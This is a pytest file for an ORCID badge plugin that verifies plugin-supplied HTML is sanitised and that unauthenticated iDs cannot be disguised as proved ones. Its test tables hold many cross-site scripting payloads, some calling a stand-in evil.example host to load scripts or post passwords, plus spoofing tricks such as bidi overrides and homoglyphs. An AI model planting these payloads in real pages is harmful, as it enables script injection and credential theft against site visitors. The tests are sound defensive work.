"""A site's plugin may draw badges; what it draws is shown only if it is safe, and says what the books say."""

import logging
from collections.abc import Callable, Generator
from dataclasses import replace
from datetime import UTC, datetime
from html import unescape
from typing import Any
from urllib.parse import quote

import pytest

from orcid_repo_plugin import hookimpl
from orcid_repo_plugin.catalogues import BADGES, Catalogues
from orcid_repo_plugin.domain.badge import Badge, Form, Style
from orcid_repo_plugin.domain.byline import AuthorList, Byline, ListedName
from orcid_repo_plugin.domain.orcid_id import OrcidId
from orcid_repo_plugin.domain.record_summary import Affiliation, Count, RecordSummary
from orcid_repo_plugin.domain.work import PublicationDate
from orcid_repo_plugin.plugins import load as load_plugins
from orcid_repo_plugin.services.app import App
from orcid_repo_plugin.services.drawing import Drawing
from orcid_repo_plugin.settings import Settings
from orcid_repo_plugin.widgets.drawing import draw
from orcid_repo_plugin.widgets.icons import data_address, file_bytes
from orcid_repo_plugin.widgets.look import Look
from tests.services.house import House

ICONS = "https://orcid.repo.example.org/icons"
SITE = Settings(base_url="https://orcid.repo.example.org/")
WORDS = Catalogues(SITE.site, BADGES)
LOOK = Look(WORDS.default, ICONS)
URI = "https://orcid.org/0000-0002-1825-0097"
ANOTHER = "0000-0001-5109-3700"
PROVED = Badge(orcid=OrcidId("0000-0002-1825-0097"), authenticated=True, name="Josiah Carberry")
CLAIMED = Badge(orcid=OrcidId("0000-0002-1825-0097"), authenticated=False, name="Josiah Carberry")
FULL_ICON = f"{ICONS}/ORCID-iD_icon_vector.svg"
HOLLOW_ICON = f"{ICONS}/ORCID-iD_icon_unauth_vector.svg"
LINK = f'<a href="{URI}">0000-0002-1825-0097</a>'
WORD = "(unauthenticated)"


class Answering:
    """A plugin that answers one text for every badge."""

    def __init__(self, answer: Any) -> None:
        self.answer = answer

    def orcid_render_badge(self, person: Badge) -> Any:
        """Answer it."""
        return self.answer


class Changing:
    """A plugin that makes something else of what the others have drawn."""

    def __init__(self, change: Callable[[str], Any]) -> None:
        self.change = change

    @hookimpl(wrapper=True)
    def orcid_render_badge(self, person: Badge) -> Generator[None, str, Any]:
        """Change it."""
        drawn = yield
        return self.change(drawn)


class ChangingInTheOldWay:
    """The same, as older plugins write it."""

    def __init__(self, change: Callable[[str], Any]) -> None:
        self.change = change

    @hookimpl(hookwrapper=True)
    def orcid_render_badge(self, person: Badge) -> Generator[None, Any, None]:
        """Change it."""
        outcome = yield
        outcome.force_result(self.change(outcome.get_result()))


class PuttingAnException:
    """An older plugin that puts an exception in the answer's place."""

    @hookimpl(hookwrapper=True)
    def orcid_render_badge(self, person: Badge) -> Generator[None, Any, None]:
        """Put it there."""
        outcome = yield
        outcome.force_exception(KeyError("shelf"))


class Desk:
    """An installation without books, and who draws there."""

    def __init__(self, *plugins: object) -> None:
        loaded = load_plugins(SITE)
        for number, plugin in enumerate(plugins, 1):
            loaded.register(plugin, f"site{number}")
        self.app = App(SITE, loaded)
        self.drawing = Drawing(self.app, WORDS)

    def html(self, badge: Badge = PROVED, style: Style = Style.FULL) -> str:
        return self.drawing.badge(badge, style, Form.HTML, LOOK)

    @property
    def faults(self) -> list[str]:
        return [f"{one.plugin}: {one.error}" for one in self.app.plugins.broken]


def ours(badge: Badge = PROVED, style: Style = Style.FULL) -> str:
    return draw(badge, style, Form.HTML, LOOK)


@pytest.mark.parametrize("form", Form)
def test_without_a_plugin_a_badge_is_ours(form: Form) -> None:
    desk = Desk()

    assert desk.drawing.badge(PROVED, Style.FULL, form, LOOK) == draw(PROVED, Style.FULL, form, LOOK)


def test_ten_lines_change_a_badge() -> None:
    class Local:
        def orcid_render_badge(self, person: Badge, style: str) -> str | None:
            if style != "compact":
                return None
            word = "" if person.authenticated else " (unauthenticated)"
            return f'<a href="{person.uri}">iD {person.orcid}</a>{word}'

    desk = Desk(Local())

    assert desk.html(PROVED, Style.COMPACT) == f'<a href="{URI}">iD 0000-0002-1825-0097</a>'
    assert desk.html(CLAIMED, Style.COMPACT) == f'<a href="{URI}">iD 0000-0002-1825-0097</a> {WORD}'
    assert desk.html(PROVED, Style.FULL) == ours(PROVED, Style.FULL)
    assert desk.faults == []


def test_a_wrapper_decorates_our_badge_in_every_style_and_state() -> None:
    desk = Desk(
        Changing(lambda html: f'<span class="faculty">{html} <a href="/profile/12">Profile</a></span>')
    )

    for badge in (PROVED, CLAIMED):
        for style in (Style.FULL, Style.COMPACT, Style.ICON):
            drawn = desk.html(badge, style)
            assert drawn.startswith('<span class="faculty"><a class="orcid-id')
            assert drawn.endswith('<a href="/profile/12">Profile</a></span>')
            assert (WORD in drawn) is not badge.authenticated
    assert desk.faults == []


def test_a_plugin_is_asked_for_html_only() -> None:
    desk = Desk(Answering(f"<b>{LINK}</b>"))

    assert desk.html() == f"<b>{LINK}</b>"
    for form in (Form.SVG, Form.MARKDOWN, Form.TEXT, Form.LATEX, Form.JSON, Form.JSON_LD):
        assert desk.drawing.badge(PROVED, Style.FULL, form, LOOK) == draw(PROVED, Style.FULL, form, LOOK)


def test_a_plugin_knows_the_language_and_where_the_icons_are() -> None:
    asked: list[tuple[str, str]] = []

    class Local:
        def orcid_render_badge(self, language: str, icons: str) -> None:
            asked.append((language, icons))

    Desk(Local()).html()

    assert asked == [("en", ICONS)]


class Breaking:
    """Raises for every badge."""

    def orcid_render_badge(self, person: Badge) -> str:
        """Break."""
        raise KeyError("shelf")


@pytest.mark.parametrize(
    ("plugin", "fault"),
    [
        (Breaking(), "KeyError: 'shelf'"),
        (Answering(7), "TypeError: it answered 7 where a text or None belongs"),
        (Answering(b"<b>"), "TypeError: it answered b'<b>' where a text or None belongs"),
        (Changing(lambda html: {"shelf": ""}[html]), "KeyError: "),
        (ChangingInTheOldWay(lambda html: 7), "TypeError"),
        (ChangingInTheOldWay(lambda html: f"{html}<script>"), "ValueError: it holds a <script> element"),
    ],
    ids=[
        "raises",
        "a number",
        "bytes",
        "a wrapper raises",
        "an old wrapper: a number",
        "an old wrapper: HTML",
    ],
)
def test_a_broken_plugin_is_named_and_our_badge_shown(plugin: object, fault: str) -> None:
    desk = Desk(plugin)

    assert desk.html() == ours()
    [said] = desk.faults
    assert said.startswith(f"site1: {fault}")


def test_an_exception_in_the_answer_s_place_is_its_plugin_s_fault_and_our_badge_is_shown() -> None:
    desk = Desk(PuttingAnException())

    assert unescape(desk.html()) == unescape(ours())
    assert desk.faults == ["site1: KeyError: 'shelf'"]


def test_what_is_wrong_in_one_plugin_leaves_the_others_answers() -> None:
    good, bad = Answering(f"<i>{LINK}</i>"), Changing(lambda html: f"{html}<script>alert(1)</script>")

    desk = Desk(good, bad)

    assert desk.html() == f"<i>{LINK}</i>"
    assert [one.partition(":")[0] for one in desk.faults] == ["site2"]


ATTACKS = {
    "script": (f"{LINK}<script>alert(1)</script>", "a <script> element"),
    "script in capitals": (f"{LINK}<ScRiPt >alert(1)</sCrIpT>", "a <script> element"),
    "script with a slash": (f"{LINK}<script/src=//evil.example>", "a <script> element"),
    "onerror": (f"{LINK}<img src=x onerror=alert(1)>", "the attribute onerror of <img>"),
    "onclick": (f'<a href="{URI}" onclick="alert(1)">iD</a>', "the attribute onclick of <a>"),
    "onclick behind a slash": (f'<a/onclick=alert(1)/href="{URI}">iD</a>', "the attribute onclick of <a>"),
    "javascript": (f'{LINK}<a href="javascript:alert(1)">x</a>', "a link to javascript:"),
    "javascript with a line end": (f'{LINK}<a href=" java\nscript:alert(1)">x</a>', "a link to javascript:"),
    "javascript in entities": (
        f'{LINK}<a href="&#106;avascript&colon;alert(1)">x</a>',
        "a link to javascript:",
    ),
    "vbscript": (f'{LINK}<a href="vbscript:x">x</a>', "a link to vbscript:"),
    "a data page": (f'{LINK}<a href="data:text/html,<script>alert(1)</script>">x</a>', "a link to data:"),
    "a data picture": (
        f'{LINK}<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        "a picture from somewhere",
    ),
    "a picture of others": (
        f'{LINK}<img src="https://evil.example/count.gif">',
        "a picture from somewhere else",
    ),
    "a picture beside ours": (f'{LINK}<img src="https://orcid.repo.example.org.evil/x">', "a picture from"),
    "srcset": (
        f'{LINK}<img src="{FULL_ICON}" srcset="//evil.example/x 2x">',
        "the attribute srcset of <img>",
    ),
    "style attribute": (f'<b style="position:fixed">{LINK}</b>', "the attribute style of <b>"),
    "style element": (f"{LINK}<style>*{{display:none}}</style>", "a <style> element"),
    "link element": (f'{LINK}<link rel="stylesheet" href="//evil.example/x.css">', "a <link> element"),
    "svg": (f"{LINK}<svg onload=alert(1)></svg>", "a <svg> element"),
    "foreignObject": (f"{LINK}<svg><foreignObject><body onload=alert(1)>", "a <svg> element"),
    "math": (f"{LINK}<math><mtext><img src=x onerror=alert(1)>", "a <math> element"),
    "iframe": (f'{LINK}<iframe src="{URI}"></iframe>', "a <iframe> element"),
    "object": (f"{LINK}<object data=x></object>", "a <object> element"),
    "base": (f'<base href="//evil.example/">{LINK}', "a <base> element"),
    "form": (f'<form action="//evil.example">{LINK}<input name=password></form>', "a <form> element"),
    "meta": (f'<meta http-equiv="refresh" content="0;url=//evil.example">{LINK}', "a <meta> element"),
    "template": (f"<template>{LINK}</template>", "a <template> element"),
    "noscript": (f"<noscript>{LINK}</noscript>", "a <noscript> element"),
    "textarea": (f"{LINK}<textarea>", "a <textarea> element"),
    "plaintext": (f"{LINK}<plaintext>", "a <plaintext> element"),
    "the end of the page": (f"{LINK}</body></html><body onload=alert(1)>", "a <body> element"),
    "our own element": (f"{LINK}<orcid-badge></orcid-badge>", "a <orcid-badge> element"),
    "id": (f'<b id="content">{LINK}</b>', "the attribute id of <b>"),
    "hidden": (f"<b hidden>{LINK}</b>", "the attribute hidden of <b>"),
    "target": (f'<a href="{URI}" target="_top">iD</a>', "the attribute target of <a>"),
    "comment": (f"{LINK}<!-- unauthenticated -->", "a comment"),
    "comment that does not end": (f"{LINK}<!-- ", "it "),
    "doctype": (f"<!DOCTYPE html>{LINK}", "a declaration"),
    "CDATA": (f"{LINK}<![CDATA[x]]>", "it "),
    "instruction": (f"{LINK}<?php echo 1 ?>", "a processing instruction"),
    "a tag that does not end": (f'{LINK}<a href="https://evil.example', "it "),
    "an attribute that does not end": (f'{LINK}<img alt="', "it "),
    "a stray paragraph end": (f"{LINK}</p>", "it is no clean HTML"),
    "NUL": (f"{LINK}\0", "a character that no page can hold"),
    "half a character": (f"{LINK}\ud800", "a character that no page can hold"),
    "10 MB": (LINK + "x" * 10_000_000, "it is longer than 20,000 bytes"),
    "20,001 bytes": (LINK + "ä" * 10_000, "it is longer than 20,000 bytes"),
    "many beginnings": ("<a " * 6_000, "more than 500 signs <"),
    "very deep": ("<b>" * 400 + LINK, "more than 30 elements within one another"),
    "angle brackets": (LINK + "<" * 19_000, "it "),
}


@pytest.mark.parametrize(("answer", "fault"), ATTACKS.values(), ids=ATTACKS)
def test_what_could_do_harm_is_named_and_never_shown(answer: str, fault: str) -> None:
    for plugin in (Answering(answer), Changing(lambda _: answer), ChangingInTheOldWay(lambda _: answer)):
        desk = Desk(plugin)

        assert desk.html() == ours()
        [said] = desk.faults
        assert said.startswith("site1: ValueError: it ")
        assert fault in said


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (f"<b>{LINK}", f"<b>{LINK}</b>"),
        (f"{LINK}</div>", LINK),
        (f"{LINK} &amp; sons", f"{LINK} &amp; sons"),
        (f"{LINK} 5 < 7", f"{LINK} 5 &lt; 7"),
    ],
    ids=["an element left open", "an element closed too often", "an entity", "a bare sign"],
)
def test_what_is_harmless_is_shown_as_the_sanitizer_writes_it(answer: str, shown: str) -> None:
    desk = Desk(Answering(answer))

    assert desk.html() == shown
    assert desk.faults == []


def unsaid(html: str) -> str:
    assert WORD in html
    return html.replace(WORD, "")


FORGED: dict[str, Callable[[str], str]] = {
    "the word removed": unsaid,
    "the word in a comment": lambda html: f"{unsaid(html)}<!-- {WORD} -->",
    "the word in a tooltip only": lambda html: f'<span title="{WORD}">{unsaid(html)}</span>',
    "the word as an alternative text": lambda html: f'{unsaid(html)}<img src="{HOLLOW_ICON}" alt="{WORD}">',
    "the word in a class": lambda html: f'<span class="{WORD}">{unsaid(html)}</span>',
    "the word under a class that hides": lambda html: html.replace(
        WORD, f'<span class="visually-hidden">{WORD}</span>'
    ),
    "all under a class that hides": lambda html: f'<div class="d-none">{html}</div>'.replace("div", "b"),
    "the word for screen readers": lambda html: html.replace(WORD, f'<i class="sr-only x">{WORD}</i>'),
    "the word crossed with another": lambda html: html.replace(WORD, "(un<b>x</b>authenticated)"),
    "the word with other letters": lambda html: html.replace(WORD, "(unauthentic\u0430ted)"),
    "the word turned around": lambda html: html.replace(WORD, f"\u202e{WORD}\u202c"),
    "the word turned around within a bdi": lambda html: html.replace(WORD, f"<bdi>\u202e<b>{WORD}</b></bdi>"),
    "the word too small to be read": lambda html: html.replace(
        WORD, f"{'<small>' * 20}{WORD}{'</small>' * 20}"
    ),
    "the word for screen readers, in Foundation": lambda html: html.replace(
        WORD, f'<i class="show-for-sr">{WORD}</i>'
    ),
    "the iD turned around": lambda html: html.replace(f">{URI}<", f">\u202e{URI}<"),
    "the icon over the whole page": lambda html: html.replace('width="24"', 'width="2400000"'),
    "the full icon": lambda html: html.replace(HOLLOW_ICON, FULL_ICON),
    "the full icon beside the hollow one": lambda html: f'{html}<img src="{FULL_ICON}" alt="">',
    "the full icon as data": lambda html: html.replace(HOLLOW_ICON, data_address(True)),
    "the full icon as other data": lambda html: html.replace(
        HOLLOW_ICON, f"data:image/svg+xml,{quote(file_bytes(True))}"
    ),
    "a picture of the site": lambda html: f'{html}<img src="https://orcid.repo.example.org/id.svg" alt="">',
    "the hollow icon from elsewhere": lambda html: html.replace(ICONS, "https://evil.example/icons"),
    "a relative picture": lambda html: html.replace(HOLLOW_ICON, "ORCID-iD_icon_unauth_vector.svg"),
    "another iD's link": lambda html: html.replace(f'href="{URI}"', f'href="https://orcid.org/{ANOTHER}"'),
    "another iD's link beside it": lambda html: f'{html} <a href="https://orcid.org/{ANOTHER}">iD</a>',
    "another iD in the text": lambda html: html.replace(f">{URI}<", f">https://orcid.org/{ANOTHER}<"),
    "another iD's digits": lambda html: f"{html} {ANOTHER.replace('-', '')}",
    "another iD with what no eye sees in it": lambda html: f"{html} 0000-00\u200b01-51\u00ad09-3700",
    "another iD in a tooltip": lambda html: f'<b title="{ANOTHER}">{html}</b>',
    "a link to machines": lambda html: html.replace("<a ", '<a rel="author" '),
    "a link to machines, me": lambda html: html.replace("<a ", '<a rel="noopener ME" '),
    "drawn anew as proved": lambda _: draw(PROVED, Style.FULL, Form.HTML, LOOK),
}


@pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
def test_an_id_that_nobody_has_proved_cannot_be_made_to_look_proved(forge: Callable[[str], str]) -> None:
    desk = Desk(Changing(forge))

    assert desk.html(CLAIMED) == ours(CLAIMED)
    assert len(desk.faults) == 1


@pytest.mark.parametrize(
    "href",
    [
        f"https://orcid.org/{ANOTHER}",
        f"http://orcid.org/{ANOTHER}",
        f"//orcid.org/{ANOTHER}",
        f"https:\\\\orcid.org\\{ANOTHER}",
        f"https:orcid.org/{ANOTHER}",
        f"https://ORCID.org./{ANOTHER}",
        f"https://www.orcid.org/{ANOTHER}",
        f"https://sandbox.orcid.org/{ANOTHER}",
        f"https://x@orcid.org/{ANOTHER}",
        f"https://orcid.org:443/{ANOTHER}",
        "https://orcid.org/0000%2D0001%2D5109%2D3700",
        "https://orcid.org/0000000151093700",
        "https://\uff4f\uff52\uff43\uff49\uff44.org/0000-0001-5109-3700",
        f"https://orcid.org/my-orcid?orcid={ANOTHER}",
        f"https://repo.example.org/profile/{ANOTHER}",
        "http://orcid.org/0000-0002-1825-0097",
        "https://orcid.org/0000-0002-1825-0097/../0000-0001-5109-3700",
    ],
)
def test_a_badge_leads_to_no_other_id_however_its_address_is_spelled(href: str) -> None:
    for badge in (PROVED, CLAIMED):
        desk = Desk(Changing(lambda html: f'{html} <a href="{href}">more</a>'))

        assert desk.html(badge) == ours(badge)
        assert len(desk.faults) == 1


@pytest.mark.parametrize(
    "link",
    [
        "https://orcid.org/0000-0002-1825-0097",
        "0000-0002-<b>1825</b>-0097",
        f'<img src="{HOLLOW_ICON}" alt="">',
        f'<b><img src="{FULL_ICON}" alt=""></b>',
    ],
    ids=["the address", "the digits", "the hollow icon", "the full icon"],
)
def test_what_looks_like_the_link_to_the_id_leads_nowhere_else(link: str) -> None:
    for badge in (PROVED, CLAIMED):
        desk = Desk(Changing(lambda html: f'{html} <a href="https://evil.example/0000-0002">{link}</a>'))

        assert desk.html(badge) == ours(badge)
        assert len(desk.faults) == 1


class Meddling:
    """A plugin that changes whom it was asked about, past the lock on it."""

    def __init__(self, answer: str | None) -> None:
        self.answer = answer

    def orcid_render_badge(self, person: Badge) -> str | None:
        """Change the state and the iD, then answer."""
        object.__setattr__(person, "authenticated", True)
        object.__setattr__(person.orcid, "path", ANOTHER)
        return self.answer


@pytest.mark.parametrize("answer", [None, f'<a href="https://orcid.org/{ANOTHER}">iD</a>'])
def test_a_plugin_that_changes_the_person_changes_no_badge(answer: str | None) -> None:
    desk = Desk(Meddling(answer))

    assert desk.html(CLAIMED) == ours(CLAIMED)
    assert desk.html(CLAIMED) == ours(CLAIMED)


class TwoFaced(str):
    """A text that says of itself what its maker wants."""

    def __len__(self) -> int:
        return 9

    def __eq__(self, other: object) -> bool:
        return True

    def __radd__(self, other: str) -> str:
        return f"{LINK} {WORD}"

    __hash__ = str.__hash__


@pytest.mark.parametrize("kind", [Answering, ChangingInTheOldWay])
def test_a_text_that_reads_differently_each_time_is_read_as_it_is(kind: Callable[[Any], object]) -> None:
    answer = TwoFaced(f"{LINK} is who they say" + "x" * 300)
    desk = Desk(kind(answer if kind is Answering else lambda _: answer))

    assert desk.html(CLAIMED) == ours(CLAIMED)


@pytest.mark.parametrize(
    "more",
    [
        '<a href="https://info.orcid.org/what-is-orcid/">What is this?</a>',
        '<a href="https://repository.example.org/profile/0000-0002-1825-0097">Profile</a>',
        '<a href="http://repository.example.org/handle/10.5555/1234567812345678">Thesis</a>',
        '<a href="/staff/carberry" title="Staff" lang="en" dir="ltr">Staff</a>',
        "<ul><li><code>x</code></li></ul>",
        '<time datetime="2026-11-21">today</time>',
        "<small>Room <sup>7</sup></small>",
        "<bdi>\u2067\u05d9\u05e9\u05e2\u05d9\u05d4\u05d5</bdi>",
    ],
)
def test_what_a_site_may_put_beside_a_badge(more: str) -> None:
    for badge in (PROVED, CLAIMED):
        desk = Desk(Changing(lambda html: f"{html} {more}"))

        assert desk.html(badge) != ours(badge)
        assert desk.faults == []


def test_a_picture_of_the_site_may_stand_beside_a_proved_id() -> None:
    seal = '<img src="https://orcid.repo.example.org/seal.svg" alt="Faculty" width="16" height="16">'
    desk = Desk(Changing(lambda html: f"{html}{seal}"))

    assert desk.html(PROVED).endswith(seal)
    assert desk.html(CLAIMED) == ours(CLAIMED)


@pytest.mark.parametrize(
    ("answer", "fault"),
    [
        ("<b>Josiah Carberry</b>", "it has no link to the iD at orcid.org"),
        (f"{LINK} {WORD}", "it shows an iD that is authenticated as one that is not"),
        (
            f'{LINK}<img src="{HOLLOW_ICON}" alt="">',
            "it shows an iD that is authenticated as one that is not",
        ),
        ("", "it has no link to the iD at orcid.org"),
    ],
)
def test_a_proved_id_keeps_its_link_and_its_state(answer: str, fault: str) -> None:
    desk = Desk(Answering(answer))

    assert desk.html(PROVED) == ours(PROVED)
    assert desk.faults == [f"site1: ValueError: {fault}"]


def test_an_id_for_trials_keeps_its_marker() -> None:
    trial = Badge(orcid=PROVED.orcid, authenticated=True, host="sandbox.orcid.org")
    desk = Desk(Answering(f'<a href="{trial.uri}">iD</a>'))

    assert desk.html(trial) == ours(trial)
    assert "for trials only" in desk.faults[0]


def test_the_word_of_the_state_is_looked_for_in_the_language_of_the_page() -> None:
    site = Settings(site={"texts": {"de": {WORD: "(nicht bestätigt)"}}})
    words = Catalogues(site.site, BADGES)
    loaded = load_plugins(site)
    loaded.register(Answering(f'<a href="{URI}">iD</a> (nicht bestätigt)'), "local")
    drawing = Drawing(App(site, loaded), words)
    german = words.find("de")
    assert german is not None

    in_german = drawing.badge(CLAIMED, Style.FULL, Form.HTML, Look(german, ICONS))
    in_english = drawing.badge(CLAIMED, Style.FULL, Form.HTML, Look(words.by_code["en"], ICONS))

    assert in_german == f'<a href="{URI}">iD</a> (nicht bestätigt)'
    assert in_english == ours(CLAIMED)


def authors(*badges: Badge | None) -> AuthorList:
    names = tuple(ListedName(name="Josiah Carberry", badge=badge) for badge in badges)
    return AuthorList(byline=Byline(repository="main", item_id="12", title="Cracked Pots"), names=names)


def test_every_badge_of_an_author_list_goes_through_the_plugin_and_is_looked_at() -> None:
    desk = Desk(Changing(lambda html: f"{html}<sup>*</sup>"))
    listed = authors(PROVED, None, CLAIMED)

    drawn = desk.drawing.authors(listed, Form.HTML, LOOK)

    assert drawn.count("<sup>*</sup>") == 2
    assert drawn.count('rel="author"') == 1
    assert drawn.count(WORD) == 1


def test_an_author_list_whose_plugin_is_broken_is_ours() -> None:
    listed = authors(PROVED, None, CLAIMED)

    assert Desk(Breaking()).drawing.authors(listed, Form.HTML, LOOK) == Desk().drawing.authors(
        listed, Form.HTML, LOOK
    )


def test_a_card_goes_through_the_plugin() -> None:
    desk = Desk(Changing(lambda html: f"{html}<p>Room B 7</p>"))

    assert desk.html(PROVED, Style.CARD).endswith("<p>Room B 7</p>")
    assert desk.html(CLAIMED, Style.CARD).endswith("<p>Room B 7</p>")
    assert desk.faults == []


@pytest.mark.parametrize("state", ["open", "locked", "deactivated", "deprecated", "unclaimed", "unknown"])
def test_a_card_with_all_that_a_record_shows_may_be_decorated(state: str) -> None:
    read_at = datetime(2026, 11, 21, 4, 40, tzinfo=UTC)
    place = Affiliation(organisation="Brown <University>", role="Professor", start=PublicationDate(1932))
    summary = RecordSummary(
        read_at=read_at,
        changed_at=read_at,
        state=state,
        primary=ANOTHER if state == "deprecated" else None,
        name="Josiah \u202e Carberry",
        employments=(place,),
        employment_count=4,
        educations=(place,),
        education_count=1,
        works=Count(2, 3),
        fundings=Count(1, 0),
        peer_reviews=Count(0, 7),
    )
    desk = Desk(Changing(lambda html: f"{html}<p>Room B 7</p>"))

    assert desk.html(replace(PROVED, summary=summary), Style.CARD).endswith("<p>Room B 7</p>")
    assert desk.faults == []


@pytest.mark.parametrize(
    "name", ["", "<script>alert(1)</script>", 'O\'Hara "J"', "\u202eJ", "漢字 \U0001f9ea", "J" * 9_000]
)
@pytest.mark.parametrize("host", ["orcid.org", "sandbox.orcid.org"])
def test_our_own_badge_passes_with_any_name_and_registry(name: str, host: str) -> None:
    desk = Desk(Changing(lambda html: f"{html}<wbr>"))

    for badge in (PROVED, CLAIMED):
        for style in Style:
            assert desk.html(replace(badge, name=name, host=host), style).endswith("<wbr>")
    assert desk.faults == []


def test_the_log_and_the_books_name_a_plugin_once_and_count_on(
    house: House, caplog: pytest.LogCaptureFixture
) -> None:
    house.plugins["local"] = Answering("<script>alert('Josiah')</script>")
    drawing = Drawing(house.furnish(), WORDS)

    with caplog.at_level(logging.WARNING):
        for _ in range(3):
            assert drawing.badge(PROVED, Style.FULL, Form.HTML, LOOK) == ours()
    house.app.note_broken_plugins()

    with house.store.reading() as c:
        [noted] = house.store.failures.rows(c)
    assert (noted.plugin, noted.hook, noted.times) == ("local", "orcid_render_badge", 3)
    assert noted.error == "ValueError: it holds a <script> element, which has no place in a badge"
    assert [one.getMessage() for one in caplog.records] == [
        f"plugin local broke in orcid_render_badge: {noted.error}; it was passed over"
    ]


def test_a_plugin_that_is_no_good_opens_no_books() -> None:
    desk = Desk(Breaking())

    desk.html()

    assert not desk.app.has_open_books
